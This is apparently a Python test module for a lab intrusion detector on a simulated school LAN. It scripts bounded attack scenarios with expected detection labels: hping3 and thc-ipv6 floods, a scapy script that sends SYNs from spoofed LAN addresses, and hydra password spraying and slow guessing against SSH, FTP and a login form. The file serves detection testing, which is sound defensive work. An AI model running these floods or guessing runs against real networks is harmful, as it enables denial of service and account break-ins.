"""Lab scenarios of floods and password guessing that step around the first recordings.

Floods from random sources, in fragments, to turning ports, over IPv6 neighbour
discovery, at a modest rate against a server with SYN cookies, and from several LAN
hosts at once; password spraying (few passwords, many accounts or many servers), slow
guessing, and a login form that answers a wrong password with a redirect to itself.
Every tool is bounded by a count or a timeout and sends only inside the lab.
``tests/lab/scenarios.py`` registers them into its ``SCENARIOS`` at its end.
"""

from __future__ import annotations

import signal
import sys
import time
from typing import TYPE_CHECKING

from tests.lab.lan import IF
from tests.lab.scenarios import (
    ATTACKER6,
    PASSWORDS,
    SERVER6,
    Outcome,
    Scenario,
    _aliases,
    _bounded,
    _server_and_attacker_ipv6,
)

if TYPE_CHECKING:
    from collections.abc import Callable

    from tests.lab.lan import Host, SchoolLan


# --------------------------------------------------------------------- floods
def _hping(name: str, expected: tuple[str, ...], flags: list[str], what: str, **notes: object):  # type: ignore[no-untyped-def]
    """hping3 from the attacker to the server, bounded by its count and 30 s."""

    def run(lan: SchoolLan, small: bool = False) -> Outcome:
        args = [*flags, lan.srv.ip]
        out = _bounded(lan, lan.attacker.ns, 30, "hping3", *args)
        return Outcome(
            name,
            expected,
            "hping3 " + " ".join(args),
            f"hping3 {what}",
            lan.attacker,
            "hping3",
            notes={"output_tail": out[-300:], **notes},
        )

    return run


_BURST = ["-c", "3000", "-i", "u500"]  # about 2,000 a second for 1.5 s
udp_flood_random_sources = _hping(
    "udp_flood_random_sources",
    ("flood",),
    ["--udp", "--rand-source", "-p", "80", *_BURST],
    "UDP flood of empty datagrams from random source addresses, 3,000 at about 2,000 a "
    "second (one MAC: the attacker's)",
    no_single_source=True,
)
icmp_flood_random_sources = _hping(
    "icmp_flood_random_sources",
    ("flood",),
    ["--icmp", "--rand-source", *_BURST],
    "ICMP echo flood from random source addresses, 3,000 at about 2,000 a second",
    no_single_source=True,
)
icmp_fragment_flood = _hping(
    "icmp_fragment_flood",
    ("flood",),
    ["--icmp", "-f", "-d", "40", "-c", "3000", "-i", "u500"],
    "ICMP echo flood, each request of 48 bytes split into 16-byte IPv4 fragments (-f), "
    "3,000 requests at about 2,000 a second",
)
udp_fragment_flood = _hping(
    "udp_fragment_flood",
    ("flood",),  # about 6,000 fragments a second: kind fragments
    ["--udp", "-f", "-d", "40", "-p", "80", "-c", "3000", "-i", "u500"],
    "UDP datagrams of 48 bytes split into 16-byte IPv4 fragments (-f), 3,000 at about "
    "2,000 a second",
    expected_kind={"flood": "fragments"},
)


def udp_oversize_flood(lan: SchoolLan, small: bool = False) -> Outcome:
    """hping3 UDP datagrams of 3,000 bytes at a student, over the LAN's 1,500-byte MTU:
    each leaves in three IPv4 fragments, about 3,000 fragments a second for 1.5 s."""
    args = ["--udp", "-d", "3000", "-p", "9999", "-c", "1500", "-i", "u1000"]
    args.append(lan.students[0].ip)
    out = _bounded(lan, lan.attacker.ns, 30, "hping3", *args)
    return Outcome(
        "udp_oversize_flood",
        ("flood",),
        "hping3 " + " ".join(args),
        "hping3 UDP datagrams of 3,000 bytes at a student, 1,500 at about 1,000 a second, "
        "each in three IPv4 fragments (the LAN's MTU is 1,500)",
        lan.attacker,
        "hping3",
        notes={"output_tail": out[-300:], "expected_kind": {"flood": "fragments"}},
    )


def fragmented_streams(lan: SchoolLan, small: bool = False) -> Outcome:
    """Benign UDP in IPv4 fragments (iperf3, datagrams of 3,000 bytes over the 1,500-byte
    MTU): a call between a student and the server, 24 Mbit/s each way for 2 s (about
    3,000 fragments a second to each, each side answering), then a one-way stream at
    10 Mbit/s (a camera to a recorder: about 1,250 fragments a second, under the rate)."""
    srv, stu = lan.srv, lan.students[0]
    base = ["iperf3", "-c", srv.ip, "-u", "-l", "3000"]
    call = [*base, "-b", "24M", "--bidir", "-t", "2"]
    stream = [*base, "-b", "10M", "-t", "2"]
    for args in (call, stream):
        server = lan.start(srv.ns, "iperf3-s", "timeout", "20", "iperf3", "-s", "-1", "-B", srv.ip)
        try:
            time.sleep(0.5)
            lan.run(stu.ns, "timeout", "15", *args, timeout=20)
        finally:
            lan.stop(server)
    return Outcome(
        "fragmented_streams",
        (),
        " ; ".join(" ".join(a) for a in (call, stream)),
        "iperf3 UDP datagrams of 3,000 bytes (three IPv4 fragments each): a student and the "
        "server at 24 Mbit/s each way for 2 s, then a one-way stream at 10 Mbit/s for 2 s",
        None,
        "iperf3",
    )


udp_flood_turning_ports = _hping(
    "udp_flood_turning_ports",
    ("flood", "port_scan"),  # empty datagrams to 1,700 closed ports: a scan and a flood
    ["--udp", "-p", "++1", *_BURST],
    "UDP flood of empty datagrams to a new destination port each (-p ++1), 3,000 at "
    "about 2,000 a second",
)
syn_flood_turning_ports = _hping(
    "syn_flood_turning_ports",
    ("syn_flood",),
    ["-S", "-p", "++1", *_BURST],
    "SYN flood to a new destination port each (-p ++1), 3,000 at about 2,000 a second",
)
spoofed_syn_flood_turning_ports = _hping(
    "spoofed_syn_flood_turning_ports",
    ("syn_flood",),
    ["-S", "--rand-source", "-p", "++1", *_BURST],
    "SYN flood from random sources to a new destination port each, 3,000 at about 2,000 a second",
    no_single_source=True,
)


def syn_flood_syncookies(lan: SchoolLan, small: bool = False) -> Outcome:
    """300 SYNs a second to the server's port 80 with SYN cookies on and a short backlog
    (the kernel answers every SYN with a cookie once its queue is full)."""
    seconds = 6 if small else 20
    for key, value in (("net.ipv4.tcp_syncookies", "2"), ("net.ipv4.tcp_max_syn_backlog", "64")):
        lan.run(lan.srv.ns, "sysctl", "-qw", f"{key}={value}")
    try:
        args = ["-S", "-p", "80", "-c", str(300 * seconds), "-i", "u3333", lan.srv.ip]
        out = _bounded(lan, lan.attacker.ns, seconds + 10, "hping3", *args)
    finally:
        lan.run(lan.srv.ns, "sysctl", "-qw", "net.ipv4.tcp_syncookies=1")
    return Outcome(
        "syn_flood_syncookies",
        ("syn_flood",),
        "hping3 " + " ".join(args),
        f"hping3 SYN flood at a modest 300 a second for {seconds} s against a server with "
        "SYN cookies always on (net.ipv4.tcp_syncookies=2)",
        lan.attacker,
        "hping3",
        notes={"output_tail": out[-300:]},
    )


def _distributed(name: str, expected: str, flags: list[str], what: str, count: int):  # type: ignore[no-untyped-def]
    """The attacker and the three student laptops flood the gateway at once, each at
    about 330 packets a second: no one sender dominates."""

    def run(lan: SchoolLan, small: bool = False) -> Outcome:
        senders: list[Host] = [lan.attacker, *lan.students]
        args = [*flags, "-c", str(count), "-i", "u3000", lan.gw.ip]
        lan.attack_started = time.monotonic()
        procs = [
            lan.start(h.ns, f"hping3-{h.name}", "timeout", "-s", "INT", "20", "hping3", *args)
            for h in senders
        ]
        try:
            for proc in procs:
                proc.wait(timeout=30)
        finally:
            for proc in procs:
                lan.stop(proc, signal.SIGINT)
        return Outcome(
            name,
            (expected,),
            "hping3 " + " ".join(args) + " (on the attacker and the three students at once)",
            f"{what} toward the gateway from four LAN hosts at once, {count} packets each "
            "at about 330 a second: each one a quarter of the flood",
            lan.attacker,
            "hping3",
            notes={"senders": [h.ip for h in senders], "no_single_source": True},
        )

    return run


distributed_udp_flood = _distributed(
    "distributed_udp_flood", "flood", ["--udp", "-p", "53"], "UDP flood of empty datagrams", 700
)
distributed_syn_flood = _distributed(
    "distributed_syn_flood", "syn_flood", ["-S", "-p", "80"], "SYN flood", 350
)


def _thc6(
    name: str, expected: tuple[str, ...], tool: str, args: list[str], what: str, **notes: object
):  # type: ignore[no-untyped-def]
    """A thc-ipv6 flood from the attacker for 3 s, the server and attacker on IPv6."""

    def run(lan: SchoolLan, small: bool = False) -> Outcome:
        with _server_and_attacker_ipv6(lan):
            out = _bounded(lan, lan.attacker.ns, 3, tool, *args)
        return Outcome(
            name,
            expected,
            f"timeout -s INT 3 {tool} " + " ".join(args),
            what,
            lan.attacker,
            "thc-ipv6",
            notes={"output_tail": out[-300:], "attacker_ip6": ATTACKER6, **notes},
        )

    return run


nd_advertise_flood = _thc6(
    "nd_advertise_flood",
    ("mac_flood",),
    "atk6-flood_advertise6",
    [IF],
    "thc-ipv6 flood_advertise6: neighbour advertisements for random addresses, each "
    "from a random source MAC, as fast as it can for 3 s",
)
nd_solicit_flood = _thc6(
    "nd_solicit_flood",
    ("mac_flood",),
    "atk6-flood_solicitate6",
    [IF, SERVER6],
    "thc-ipv6 flood_solicitate6: neighbour solicitations of the server from random "
    "sources and MACs, as fast as it can for 3 s",
)
ra_flood = _thc6(
    "ra_flood",
    ("rogue_ra", "mac_flood"),
    "atk6-flood_router26",
    [IF],
    "thc-ipv6 flood_router26: router advertisements of about 25 prefixes and routes "
    "each, from random router MACs and addresses, as fast as it can for 3 s",
    no_single_source=True,
)
ipv6_syn_flood = _thc6(
    "ipv6_syn_flood",
    ("syn_flood",),
    "atk6-thcsyn6",
    ["-i", "500", IF, SERVER6, "80"],
    "thc-ipv6 thcsyn6: SYNs over IPv6 to the server's port 80, one every 500 µs, for 3 s",
)
ipv6_random_syn_flood = _thc6(
    "ipv6_random_syn_flood",
    ("syn_flood",),
    "atk6-thcsyn6",
    ["-r", "-i", "500", IF, SERVER6, "80"],
    "thc-ipv6 thcsyn6 -r: SYNs over IPv6 from random sources of the attacker's /64 to "
    "the server's port 80, one every 500 µs, for 3 s (the server solicits each source "
    "it answers)",
    no_single_source=True,
)

# hping3 spoofs one address (-a) or random ones of all IPv4 (--rand-source), whose answers
# go to the gateway: a flood from the LAN's own addresses is crafted with scapy
_LAN_SPOOF = """
import sys, time
from scapy.all import IP, TCP, Ether, conf
conf.verb = 0
iface, dst, dst_mac, rounds = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4])
taken = {1, 10, 66, 101, 102, 103}
s = conf.L2socket(iface=iface)
deadline = time.monotonic() + 20
for r in range(rounds):
    for x in range(20, 251):
        if x in taken or time.monotonic() > deadline:
            continue
        src = "10.77.0.%d" % x
        syn = TCP(sport=40000 + x, dport=80, flags="S", seq=r)
        s.send(Ether(dst=dst_mac) / IP(src=src, dst=dst) / syn)
        time.sleep(0.001)
s.close()
"""


def lan_spoofed_syn_flood(lan: SchoolLan, small: bool = False) -> Outcome:
    """SYNs to student 1's closed port 80 from the LAN's free addresses: it answers each
    with a reset, first asking ARP for the spoofed source."""
    victim = lan.students[0]
    args = [IF, victim.ip, victim.mac, "8"]
    out = _bounded(lan, lan.attacker.ns, 30, sys.executable, "-c", _LAN_SPOOF, *args)
    return Outcome(
        "lan_spoofed_syn_flood",
        ("syn_flood",),
        "python -c <scapy: 8 rounds of SYNs from 10.77.0.20-250, 1 ms apart> " + " ".join(args),
        f"SYN flood on {victim.ip} port 80 (closed) from 227 spoofed addresses of the LAN's "
        "own /24, eight rounds a millisecond apart (scapy: hping3 spoofs one address or "
        "random ones of the whole IPv4 space); the student answers each with a reset, "
        "asking ARP for every spoofed source first",
        lan.attacker,
        "scapy",
        notes={"output_tail": out[-300:], "no_single_source": True, "victim": victim.ip},
    )


nd_exhaust = _thc6(
    "nd_exhaust",
    ("flood",),
    "atk6-ndpexhaust26",
    ["-p", IF, "fd77::"],
    "thc-ipv6 ndpexhaust26 -p: echo requests to random addresses of the LAN's /64 (the "
    "router's neighbour cache fills with them), for 3 s",
)


# --------------------------------------------------------------------- guessing
USERS = [
    "admin",
    "teacher",
    "student",
    "director",
    "secretary",
    "janitor",
    "library",
    "it",
    "backup",
    "printer",
    "guest",
    "test",
    "webmaster",
    "office",
    "nurse",
    "coach",
    "music",
    "art",
    "science",
    "math",
]
SPRAY = ["Welcome2024", "School123"]  # a spray's few passwords, none the right one
SERVERS = [f"10.77.0.{11 + i}" for i in range(8)]  # more servers on the server's port


def _lines(lan: SchoolLan, name: str, lines: list[str]) -> str:
    path = lan.work / name
    path.write_text("\n".join(lines) + "\n")
    return str(path)


def _shown(lan: SchoolLan, tool: str, args: list[str]) -> str:
    text = f"{tool} " + " ".join(args)
    for name in ("users.txt", "spray.txt", "passwords.txt", "servers.txt"):
        text = text.replace(str(lan.work / name), name)
    return text


def _guess(
    lan: SchoolLan,
    name: str,
    tool: str,
    args: list[str],
    seconds: float,
    what: str,
    fast: bool = True,
    severity: str = "",
) -> Outcome:
    out = _bounded(lan, lan.attacker.ns, seconds, tool, *args)
    return Outcome(
        name,
        ("brute_force",),
        _shown(lan, tool, args),
        what,
        lan.attacker,
        tool,
        fast=fast,
        notes={"output_tail": out[-300:]}
        | ({"expected_severity": {"brute_force": severity}} if severity else {}),
    )


def ssh_spray_accounts(lan: SchoolLan, small: bool = False) -> Outcome:
    users, spray = _lines(lan, "users.txt", USERS), _lines(lan, "spray.txt", SPRAY)
    args = ["-I", "-t", "4", "-L", users, "-P", spray, f"ssh://{lan.srv.ip}"]
    return _guess(
        lan,
        "ssh_spray_accounts",
        "hydra",
        args,
        60,
        f"hydra password spraying over SSH: {len(SPRAY)} passwords against {len(USERS)} "
        "accounts of one server, 4 tasks",
    )


def _sshd_on(lan: SchoolLan, addrs: list[str]) -> object:
    """A second sshd on the server, listening on ``addrs`` (password logins fail)."""
    conf = lan.work / "sshd" / "sshd_spray_config"
    text = (lan.work / "sshd" / "sshd_config").read_text()
    text = text.replace(f"ListenAddress {lan.srv.ip}\n", "")
    text = text.replace("sshd.pid", "sshd-spray.pid")
    conf.write_text("".join(f"ListenAddress {a}\n" for a in addrs) + text)
    proc = lan.start(lan.srv.ns, "sshd-spray", "/usr/sbin/sshd", "-D", "-e", "-f", str(conf))
    try:
        for a in addrs:
            lan.wait_port(lan.srv.__class__("s", lan.srv.ns, a, lan.srv.mac), 22)
    except BaseException:
        lan.stop(proc)
        raise
    return proc


def _spray_servers(
    lan: SchoolLan,
    name: str,
    start: Callable[[SchoolLan], object],
    user: str,
    service: str,
    seconds: float,
    what: str,
    severity: str,
) -> Outcome:
    """hydra -M: one account and SPRAY's passwords against the server and SERVERS (more
    addresses of it, served by what ``start`` starts), one task each, four at a time."""
    targets = [lan.srv.ip, *SERVERS]
    with _aliases(lan, lan.srv, SERVERS):
        proc = start(lan)
        try:
            servers = _lines(lan, "servers.txt", targets)
            spray = _lines(lan, "spray.txt", SPRAY)
            args = ["-I", "-t", "1", "-T", "4", "-l", user, "-P", spray, "-M", servers, service]
            return _guess(
                lan,
                name,
                "hydra",
                args,
                seconds,
                f"hydra: one account and {len(SPRAY)} passwords against {len(targets)} {what}, "
                "one task each, four at a time",
                severity=severity,
            )
        finally:
            lan.stop(proc)  # type: ignore[arg-type]


def ssh_spray_servers(lan: SchoolLan, small: bool = False) -> Outcome:
    """One account and two passwords against nine SSH servers (the server and eight
    more addresses of it, one sshd each): two guesses a server, one connection each."""
    return _spray_servers(
        lan,
        "ssh_spray_servers",
        lambda lan: _sshd_on(lan, SERVERS),
        "admin",
        "ssh",
        60,
        "SSH servers",
        severity="warning",  # connections alone: an admin's fan-out makes them too
    )


def _vsftpd_all(lan: SchoolLan) -> object:
    """vsftpd on every address of the server (local users through PAM: 530s)."""
    from tests.lab.logins import _vsftpd  # logins imports the scenarios: not at the top

    return _vsftpd(lan, every_address=True)


def ftp_spray_servers(lan: SchoolLan, small: bool = False) -> Outcome:
    return _spray_servers(
        lan,
        "ftp_spray_servers",
        _vsftpd_all,
        "teacher",
        "ftp",
        90,
        "FTP servers (vsftpd, 530)",
        severity="critical",  # refused logins: proof of guessing
    )


def ftp_spray_accounts(lan: SchoolLan, small: bool = False) -> Outcome:
    proc = _vsftpd_all(lan)
    try:
        users, spray = _lines(lan, "users.txt", USERS), _lines(lan, "spray.txt", SPRAY[:1])
        args = ["-I", "-t", "4", "-L", users, "-P", spray, f"ftp://{lan.srv.ip}"]
        return _guess(
            lan,
            "ftp_spray_accounts",
            "hydra",
            args,
            90,
            f"hydra password spraying over FTP: one password against {len(USERS)} accounts",
        )
    finally:
        lan.stop(proc)  # type: ignore[arg-type]


def ssh_slow_guess(lan: SchoolLan, small: bool = False) -> Outcome:
    words = _lines(lan, "passwords.txt", PASSWORDS)
    args = ["-I", "-t", "1", "-W", "3", "-l", "admin", "-P", words, f"ssh://{lan.srv.ip}"]
    return _guess(
        lan,
        "ssh_slow_guess",
        "hydra",
        args,
        150,
        f"hydra SSH guessing with one task, waiting 3 s between connections (-W 3), "
        f"{len(PASSWORDS)} passwords",
        fast=False,
    )


def ftp_slow_guess(lan: SchoolLan, small: bool = False) -> Outcome:
    proc = _vsftpd_all(lan)
    try:
        words = _lines(lan, "passwords.txt", PASSWORDS[:24])
        args = ["-I", "-t", "1", "-c", "8", "-l", "teacher", "-P", words, f"ftp://{lan.srv.ip}"]
        return _guess(
            lan,
            "ftp_slow_guess",
            "hydra",
            args,
            240,
            "hydra FTP guessing with one task and 8 s between guesses (-c 8: under ten a "
            "minute), 24 passwords",
            fast=False,
        )
    finally:
        lan.stop(proc)  # type: ignore[arg-type]


def http_form_redirect_guess(lan: SchoolLan, small: bool = False) -> Outcome:
    from tests.lab.logins import REDIRECT_PORT, _form_app

    server = _form_app(lan, redirect=True)
    try:
        words = _lines(lan, "passwords.txt", PASSWORDS)
        form = "/login:user=^USER^&pass=^PASS^:F=Wrong user name"
        args = ["-I", "-t", "4", "-l", "admin", "-P", words, "-s", str(REDIRECT_PORT)]
        args += [lan.srv.ip, "http-post-form", form]
        return _guess(
            lan,
            "http_form_redirect_guess",
            "hydra",
            args,
            60,
            f"hydra guessing passwords on a login form that answers a wrong password with "
            f"302 to /login?error=1 (port {REDIRECT_PORT}), {len(PASSWORDS)} passwords, 4 tasks",
        )
    finally:
        lan.stop(server)


def _scenarios() -> dict[str, Scenario]:
    hping: list[tuple[str, Callable[[SchoolLan, bool], Outcome]]] = [
        ("udp_flood_random_sources", udp_flood_random_sources),
        ("icmp_flood_random_sources", icmp_flood_random_sources),
        ("icmp_fragment_flood", icmp_fragment_flood),
        ("udp_fragment_flood", udp_fragment_flood),
        ("udp_oversize_flood", udp_oversize_flood),
        ("udp_flood_turning_ports", udp_flood_turning_ports),
        ("syn_flood_turning_ports", syn_flood_turning_ports),
        ("spoofed_syn_flood_turning_ports", spoofed_syn_flood_turning_ports),
        ("syn_flood_syncookies", syn_flood_syncookies),
        ("distributed_udp_flood", distributed_udp_flood),
        ("distributed_syn_flood", distributed_syn_flood),
    ]
    thc: list[tuple[str, str, Callable[[SchoolLan, bool], Outcome]]] = [
        ("nd_advertise_flood", "atk6-flood_advertise6", nd_advertise_flood),
        ("nd_solicit_flood", "atk6-flood_solicitate6", nd_solicit_flood),
        ("ra_flood", "atk6-flood_router26", ra_flood),
        ("ipv6_syn_flood", "atk6-thcsyn6", ipv6_syn_flood),
        ("ipv6_random_syn_flood", "atk6-thcsyn6", ipv6_random_syn_flood),
        ("nd_exhaust", "atk6-ndpexhaust26", nd_exhaust),
    ]
    guess: list[tuple[str, tuple[str, ...], Callable[[SchoolLan, bool], Outcome]]] = [
        ("ssh_spray_accounts", ("hydra",), ssh_spray_accounts),
        ("ssh_spray_servers", ("hydra", "sshd"), ssh_spray_servers),
        ("ftp_spray_servers", ("hydra", "vsftpd"), ftp_spray_servers),
        ("ftp_spray_accounts", ("hydra", "vsftpd"), ftp_spray_accounts),
        ("ssh_slow_guess", ("hydra",), ssh_slow_guess),
        ("ftp_slow_guess", ("hydra", "vsftpd"), ftp_slow_guess),
        ("http_form_redirect_guess", ("hydra",), http_form_redirect_guess),
    ]
    out = {n: Scenario(n, ("hping3",), f) for n, f in hping}
    out |= {n: Scenario(n, (tool,), f) for n, tool, f in thc}
    out["fragmented_streams"] = Scenario("fragmented_streams", ("iperf3",), fragmented_streams)
    out |= {n: Scenario(n, tools, f) for n, tools, f in guess}
    out["lan_spoofed_syn_flood"] = Scenario("lan_spoofed_syn_flood", (), lan_spoofed_syn_flood)
    return out


SCENARIOS = _scenarios()
